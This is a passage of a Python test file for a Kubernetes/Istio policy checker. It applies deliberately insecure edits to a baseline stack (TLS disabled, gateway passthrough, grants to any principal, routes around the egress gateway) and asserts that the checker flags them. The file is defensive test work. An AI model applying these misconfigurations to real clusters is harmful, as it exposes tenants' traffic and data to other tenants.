        (_edit(TEAM_B_ROUTES, lambda v: v["spec"]["tls"][0]["route"][0]["destination"].update(
            host="team-b-batch.s3.us-east-1.amazonaws.com")), {TEAM_B_ROUTES}),
        (_edit(TEAM_B_SUBSETS, lambda d: _subset(d, "team-b-batch.s3.us-east-1")["trafficPolicy"][
            "portLevelSettings"][0]["tls"].update(mode="DISABLE")), {TEAM_B_SUBSETS}),
        (_edit(TEAM_B_SUBSETS, lambda d: _subset(d, "team-b-batch.s3.us-east-1")["trafficPolicy"][
            "portLevelSettings"][0]["tls"].update(sni="inference-prod-adapters.s3.us-east-1.amazonaws.com")), {TEAM_B_SUBSETS}),
        (_edit(TEAM_B_SUBSETS, lambda d: d["spec"].update(subsets=[])), {TEAM_B_ROUTES}),
        # The gateway: blind to who connects, or letting a tenant through to what is not its own.
        (_edit(EGRESS_GATEWAY_OBJECT, lambda g: g["spec"]["servers"][0]["tls"].update(mode="PASSTHROUGH")),
         {EGRESS_GATEWAY_OBJECT}),
        (_edit(TEAM_A_GRANT, lambda a: _grant(a)["when"][0]["values"].append("team-b-batch.s3.amazonaws.com")),
         {TEAM_A_GRANT}),
        (_edit(TEAM_A_GRANT, lambda a: _grant(a).pop("from")), {TEAM_A_GRANT}),
        (_edit(TEAM_A_GRANT, lambda a: _grant(a).pop("when")), {TEAM_A_GRANT}),
        (_edit(TEAM_A_GRANT, lambda a: _grant(a)["when"][0].update(notValues=["x"], values=[])), {TEAM_A_GRANT}),
        (_edit(TEAM_A_GRANT, lambda a: _grant(a)["from"][0]["source"].update(principals=["*"])), {TEAM_A_GRANT}),
        (_edit(TEAM_A_GRANT, lambda a: _grant(a)["from"][0]["source"].update(namespaces=["team-a", "monitoring"])),
         {TEAM_A_GRANT}),
        (_without(*(f"egress-gateway-tenant-{t}" for t in ("serving", "team-a", "team-b")), "egress-gateway-allow-nothing"),
         {""}),
        # A Sidecar seeing more than its namespace and the gateway.
        (_edit("team-b-batch-egress", lambda s: s["spec"]["egress"][0]["hosts"].append("istio-system/*")),
         {"review-labels-job", "ticket-labels-job"}),
    ],
    ids=["as-rendered", "https-anywhere", "split-address-space", "rule-without-to", "ipv6-anywhere",
         "download-rule", "download-rule-for-every-pod", "download-rule-ipv4-only", "download-rule-with-its-hosts",
         "hub-host", "hub-download-hosts", "no-route", "route-around-the-gateway",
         "subset-without-mtls", "subset-names-another-host", "no-subset", "passthrough-server", "another-tenants-host",
         "grant-to-anyone", "grant-to-any-host", "grant-by-exclusion", "grant-by-principal", "grant-to-a-platform-namespace",
         "no-grant", "sidecar-sees-istio-system"],
)  # fmt: skip
def test_tenant_egress_goes_through_the_egress_gateway_in_production(harness, baseline, change, flagged):
    hits = harness.analyze_stack(stack_with(baseline, change))
    assert {(d.urn or "").rsplit("::", 1)[-1] for d in hits if d.policy == "tenant-egress-by-host"} == flagged


def test_outside_production_the_egress_gateway_is_not_required(baseline):
    """A non-production stack may let a tenant's pods reach HTTPS anywhere (the sidecars still hold them to their
    hosts)."""
    staging = PolicyHarness("staging")
    change = _edit(TEAM_A_GATEWAY, lambda p: p["spec"]["egress"].append(ANYWHERE_443))
    assert "tenant-egress-by-host" not in analyze_stack(staging, stack_with(baseline, change))
    assert analyze_stack(PolicyHarness("prod"), stack_with(baseline, change))["tenant-egress-by-host"] == "mandatory"
    # So may a tenant's servers and jobs download from Hugging Face there, where a stack may do without the mirror.
    downloads = lambda rs: _with_download_rule()(_with_hub_entry("*.huggingface.co", "*.hf.co")(rs))  # noqa: E731
    assert "tenant-egress-by-host" not in analyze_stack(staging, stack_with(baseline, downloads))
    assert analyze_stack(PolicyHarness("prod"), stack_with(baseline, downloads))["tenant-egress-by-host"] == "mandatory"
